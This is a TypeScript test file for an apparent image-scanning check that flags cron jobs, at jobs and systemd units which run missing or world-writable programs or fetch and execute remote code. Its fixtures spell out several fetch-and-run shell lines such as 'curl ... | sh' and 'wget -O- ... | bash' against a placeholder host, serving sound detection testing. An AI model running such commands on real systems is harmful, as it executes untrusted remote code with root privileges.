import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { program, testChecks } from '../../../../../test/support/check-cases.ts';
import { readCommand } from './commands.ts';
import { jobReader } from './reader.ts';

const crontab = (command: string) => ({
  'etc/crontab': `# m h dom mon dow user command\nPATH=/bin\n17 * * * * root ${command}\n`,
});
const unit = (exec: string, more = '') => ({
  'etc/systemd/system/a.service': `[Unit]\n${more}[Service]\nExecStart=${exec}\n`,
});

testChecks({
  'FS-009': [
    ['none', { 'etc/passwd': '' }, 'not_applicable'],
    ['program of the image', { ...crontab('/usr/bin/job --daily'), 'usr/bin/job': program }, 'pass'],
    ['missing program', crontab('/usr/bin/job'), 'fail:medium'],
    ['missing program, asked for before', crontab('test -x /usr/bin/job && /usr/bin/job'), 'pass'],
    [
      'program that everybody may write',
      { ...crontab('/usr/bin/job'), 'usr/bin/job': { ...program, mode: 0o777 } },
      'fail:medium',
    ],
    ['script of an interpreter', { ...crontab('/bin/sh /opt/a.sh'), 'bin/sh': program }, 'fail:medium'],
    ['download into a shell', crontab('curl -fsSL https://files.example/x | sh'), 'fail:high'],
    ['download only', crontab('curl -fsS https://ping.example/ > /dev/null'), 'pass'],
    [
      'download, then run',
      crontab('cd /tmp; wget -q https://files.example/x.sh && chmod +x x.sh && ./x.sh'),
      'fail:high',
    ],
    ['download inside of a command', crontab('bash -c "$(wget -qO- https://files.example/x)"'), 'fail:high'],
    [
      'crontab of a user',
      { 'var/spool/cron/crontabs/root': '@daily wget -O- https://files.example/x | bash\n' },
      'fail:high',
    ],
    [
      'daily script',
      {
        'etc/cron.daily/a': {
          mode: 0o755,
          content: '#!/bin/sh\n# curl x | sh\ncurl https://files.example/x -o /tmp/x\nsh /tmp/x\n',
        },
      },
      'fail:high',
    ],
    [
      'daily script that everybody may write',
      { 'etc/cron.daily/a': { mode: 0o777, content: '#!/bin/sh\n' } },
      'fail:medium',
    ],
    [
      'daily script, ordinary',
      { 'etc/cron.daily/a': { mode: 0o755, content: '#!/bin/sh\n/usr/sbin/absent\n' } },
      'pass',
    ],
    [
      'Alpine',
      { 'etc/periodic/15min/a': { mode: 0o755, content: '#!/bin/sh\nwget -O - http://files.example/x | sh\n' } },
      'fail:high',
    ],
    ['at', { 'var/spool/cron/atjobs/a00001': '#!/bin/sh\ncurl http://files.example/x | sh\n' }, 'fail:high'],
    ['lock, then download', crontab('flock -w 5 /run/a wget -qO- https://files.example/x | sudo -E bash'), 'fail:high'],
    ['more commands than are read', { 'etc/cron.daily/a': 'true;'.repeat(6000) }, 'unknown:too_large'],
    ['unit', unit('/opt/absent --serve'), 'fail:medium'],
    ['unit that may fail', unit('-/opt/absent'), 'pass'],
    ['unit with a condition', unit('/opt/absent', 'ConditionPathExists=/opt/absent\n'), 'pass'],
    ['unit that downloads', unit('/bin/sh -c "curl http://files.example/x | sh"'), 'fail:high'],
    [
      'unit of a package',
      {
        'usr/lib/systemd/system/a.service': '[Service]\nExecStart=/opt/absent\n',
        'etc/os-release': 'ID=debian\nVERSION_ID="12"\n',
        'var/lib/dpkg/status': 'Package: a\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n\n',
        'var/lib/dpkg/info/a.list': '/usr/lib/systemd/system/a.service\n',
      },
      'pass',
    ],
  ],
});

test('what a job is given is not kept', () => {
  const facts = jobReader.read(
    Buffer.from('* * * * * curl -u somebody:not-a-real-one https://files.example/x | sh\n'),
    {
      ...{ path: 'var/spool/cron/crontabs/root', type: 'file', mode: 0o600, uid: 0, gid: 0, size: 1, mtime: 0 },
    },
  );
  assert.ok(!JSON.stringify(facts).includes('not-a-real-one'));
  assert.deepEqual(facts?.jobs, [{ line: 1, programs: [], guarded: false, fetches: true }]);
});

test('any text is a command: it takes time in proportion to its length', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom(...'curl |sh$(`"\'\\&;\n/-oxa'.split('')), maxLength: 400 }),
      (text) => {
        assert.ok(readCommand(text).programs.length <= 20);
      },
    ),
    { numRuns: 200 },
  );
  for (const piece of ['curl ', '$(', 'sh -c "curl ', 'wget -o a b;', '| sh ', '\\', '"']) {
    const started = performance.now();
    readCommand(piece.repeat(20_000));
    assert.ok(performance.now() - started < 2000, piece);
  }
});
